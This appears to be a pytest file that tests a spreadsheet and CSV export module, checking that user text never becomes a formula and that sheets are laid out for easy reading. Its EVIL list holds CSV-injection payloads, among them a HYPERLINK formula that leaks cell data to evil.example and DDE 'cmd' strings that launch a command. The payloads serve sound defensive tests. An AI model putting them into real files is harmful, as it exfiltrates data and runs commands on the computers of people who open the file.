"""Spreadsheets and CSV out: no user text ever becomes a formula (OWASP CSV injection),
and sheets are laid out for reading (widths, filter, frozen header, percentages)."""

from __future__ import annotations

import ast
import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tekisei.render.sheets import (
    FORMULA_START,
    PERCENT_FORMAT,
    WIDTH_MAX,
    Percent,
    Table,
    csv_cell,
    csv_text,
    display_width,
    xlsx_bytes,
)

SRC = Path(__file__).resolve().parents[2] / "src" / "tekisei"

# Each starts with a character spreadsheet software reads as the start of a formula.
EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝１＋１",
]


def formulas_in(workbook: bytes) -> list[str]:
    """Every formula element in every sheet of an XLSX file (none is expected)."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return [
            match
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for match in re.findall(r"<f[ >].*?</f>", archive.read(name).decode("utf-8"))
        ]


def assert_text_only(workbook: bytes, expected: list[str]) -> None:
    """No formula in the workbook, and each expected string is a text cell with that value."""
    assert formulas_in(workbook) == []
    book = load_workbook(io.BytesIO(workbook))
    cells = {
        cell.value: cell.data_type
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for value in expected:
        # A carriage return may read back as a line feed (XML line-end handling) or as
        # itself (when written escaped); the cell is text either way.
        found = cells.get(value) or cells.get(value.replace("\r", "\n"))
        assert found == "s", value


def assert_csv_safe(text: str) -> None:
    """No CSV cell starts with a character that starts a formula."""
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell


def test_every_formula_start_is_written_as_text_in_xlsx() -> None:
    table = Table(title="=evil", header=["note"], rows=[[value] for value in EVIL])
    workbook = xlsx_bytes([table])
    assert_text_only(workbook, EVIL)
    assert load_workbook(io.BytesIO(workbook)).sheetnames == ["=evil"]


def test_every_formula_start_is_neutralised_in_csv() -> None:
    text = csv_text(Table(title="t", header=["=header"], rows=[[value] for value in EVIL]))
    assert_csv_safe(text)
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))]
    assert cells == ["'=header", *("'" + v for v in EVIL)]


def test_numbers_dates_and_plain_text_keep_their_values() -> None:
    row = [-3, 2.5, True, None, date(2026, 1, 2), datetime(2026, 1, 2, 3, 4, tzinfo=UTC), "a-b"]
    assert [csv_cell(v) for v in row] == [
        "-3", "2.5", "1", "", "2026-01-02", "2026-01-02T03:04:00+00:00", "a-b",
    ]  # fmt: skip
    book = load_workbook(io.BytesIO(xlsx_bytes([Table(title="t", header=["h"], rows=[row])])))
    values = [c.value for c in book.worksheets[0][2]]
    assert values[:3] == [-3, 2.5, True] and values[6] == "a-b"
    assert values[5] == "2026-01-02T03:04:00+00:00"


def test_characters_xml_cannot_hold_do_not_break_the_workbook() -> None:
    workbook = xlsx_bytes(
        [Table(title="a[b]:c*d?e/f\\g" * 5, header=["h"], rows=[["bell\x07 and\x00 nul"]])]
    )
    book = load_workbook(io.BytesIO(workbook))
    assert book.worksheets[0]["A2"].value == "bell and nul"
    assert len(book.sheetnames[0]) <= 31 and not set("[]:*?/\\") & set(book.sheetnames[0])


def test_sheet_titles_stay_unique() -> None:
    tables = [Table(title="x" * 40, header=["h"], rows=[]) for _ in range(3)]
    names = load_workbook(io.BytesIO(xlsx_bytes(tables))).sheetnames
    assert len(set(names)) == 3 and all(len(n) <= 31 for n in names)


def test_columns_fit_their_text_with_full_width_characters_counted_twice() -> None:
    table = Table(
        title="t",
        header=["ID", "Name", "説明"],
        rows=[[1, "abcdefghij", "画像生成サービス"], [2, "x" * 500, "短い"]],
    )
    sheet = load_workbook(io.BytesIO(xlsx_bytes([table]))).worksheets[0]
    widths = {c: sheet.column_dimensions[c].width for c in "ABC"}
    assert display_width("画像生成サービス") == 16 and display_width("abc") == 3
    assert widths["C"] >= 16  # eight full-width characters need sixteen widths
    assert widths["A"] < widths["C"]  # a short column stays narrow
    assert widths["B"] == WIDTH_MAX  # a long text does not make a column endless
    assert sheet["B3"].alignment.wrap_text  # it wraps instead


def test_the_header_row_is_bold_filtered_and_frozen_below_the_preamble() -> None:
    table = Table(
        title="t",
        preamble=[["システム", "チャットボット"]],
        header=["section", "answer", "notes"],
        rows=[["1", "yes", ""], ["2", "no", ""]],
    )
    sheet = load_workbook(io.BytesIO(xlsx_bytes([table]))).worksheets[0]
    assert sheet["A3"].value == "section" and sheet["A3"].font.b  # preamble, blank line
    assert sheet.auto_filter.ref == "A3:C5"
    assert sheet.freeze_panes == "A4"  # scrolling keeps the header in view


def test_percentages_are_numbers_with_a_percent_format_and_text_in_csv() -> None:
    table = Table(title="t", header=["share"], rows=[[Percent(0.8333)], [Percent(1.0)], ["—"]])
    sheet = load_workbook(io.BytesIO(xlsx_bytes([table]))).worksheets[0]
    assert sheet["A2"].value == pytest.approx(0.8333)  # a number a formula can use
    assert sheet["A2"].number_format == PERCENT_FORMAT == "0.0%"
    assert sheet["A4"].value == "—"
    rows = list(csv.reader(io.StringIO(csv_text(table), newline="")))
    assert [r[0] for r in rows] == ["share", "83.3%", "100.0%", "—"]


def _writes_spreadsheets(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module]
            found += [n for n in names if n and n.split(".")[0] == "openpyxl"]
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(f"csv.{node.attr}")
    return found


@pytest.mark.parametrize(
    "path",
    [p for p in sorted(SRC.rglob("*.py")) if p != SRC / "render" / "sheets.py"],
    ids=lambda p: str(p.relative_to(SRC)),
)
def test_only_the_sheets_module_writes_spreadsheets_and_csv(path: Path) -> None:
    assert _writes_spreadsheets(path) == [], (
        "write spreadsheets and CSV through tekisei.render.sheets (Table, xlsx_bytes, "
        "csv_text) so that no user text becomes a formula"
    )
